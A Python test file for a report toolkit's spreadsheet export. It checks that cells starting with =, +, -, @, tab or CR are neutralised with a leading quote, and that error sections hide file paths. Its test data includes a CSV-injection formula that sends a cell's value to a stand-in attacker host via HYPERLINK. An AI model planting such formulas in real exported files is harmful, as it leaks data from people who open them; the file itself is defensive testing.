"""Tables meant for Excel cannot run formulas; failed report sections show no paths.

The expected cells follow the OWASP CSV-injection rule written out by hand:
text starting with =, +, -, @, tab or CR gets a leading single quote.
"""

import csv
import types

import pandas as pd

from toolkit.report import build as report_mod
from toolkit.report.build import ReportContext, build_report
from toolkit.tables import safe_for_spreadsheet, undo_spreadsheet_quotes
from toolkit.validity import coding_sheet, read_coding_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "\rcmd",
    "plain",
    "a=b",
    "'=already",
]
EXPECTED = ["'" + v for v in HOSTILE[:6]] + ["plain", "a=b", "''=already"]


def test_text_cells_get_a_quote_numbers_stay_numbers():
    df = pd.DataFrame({"outlet": HOSTILE, "score": [-0.5] * len(HOSTILE), "n": range(len(HOSTILE))})
    out = safe_for_spreadsheet(df)
    assert out["outlet"].tolist() == EXPECTED
    assert out["score"].tolist() == [-0.5] * len(HOSTILE)
    assert out["n"].dtype == df["n"].dtype
    assert undo_spreadsheet_quotes(out["outlet"]).tolist() == HOSTILE
    assert df["outlet"].tolist() == HOSTILE  # the input is not changed


def test_report_csv_cells_are_neutralised(tmp_path):
    ctx = ReportContext(corpus=pd.DataFrame(), out_dir=tmp_path)
    df = pd.DataFrame({"=cmd": ["=1+1", "ok"], "mean": [-0.25, 0.5]})
    rel = ctx.save_table(df, "t")
    with open(tmp_path / rel, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["'=cmd", "mean"], ["'=1+1", "-0.25"], ["ok", "0.5"]]


def test_coding_sheet_files_are_neutralised_and_read_back(tmp_path):
    corpus = pd.DataFrame(
        {
            "doc_id": ["-d1", "d2"],
            "text": ['=HYPERLINK("http://evil.example")', "@Seoul met Tokyo."],
            "title": ["", ""],
        }
    )
    path = tmp_path / "sheet.csv"
    sheet, key = coding_sheet(corpus, n=2, level="document", path=path)
    with open(path, newline="", encoding="utf-8-sig") as fh:
        texts = [r["text"] for r in csv.DictReader(fh)]
    assert sorted(texts) == sorted(['\'=HYPERLINK("http://evil.example")', "'@Seoul met Tokyo."])
    with open(tmp_path / "sheet_key.csv", newline="", encoding="utf-8-sig") as fh:
        ids = sorted(r["doc_id"] for r in csv.DictReader(fh))
    assert ids == ["'-d1", "d2"]
    back = read_coding_sheet(path)
    assert sorted(back["doc_id"]) == ["-d1", "d2"]
    assert sorted(back["text"]) == sorted(corpus["text"])


def test_failed_section_shows_message_without_paths(tmp_path, monkeypatch):
    def boom(ctx):
        raise RuntimeError("measure exploded")

    fake = [
        types.SimpleNamespace(__name__="toolkit.report.sections.a", TITLE="A", ORDER=1, build=boom)
    ]
    monkeypatch.setattr(report_mod, "available_sections", lambda: fake)
    page = build_report(
        pd.DataFrame({"text": ["Seoul met Tokyo."]}), tmp_path, progress=False
    ).read_text(encoding="utf-8")
    assert "This section failed: RuntimeError: measure exploded" in page
    assert "Traceback" not in page
    assert "site-packages" not in page and str(tmp_path) not in page
    assert "/home/" not in page and "/work/" not in page
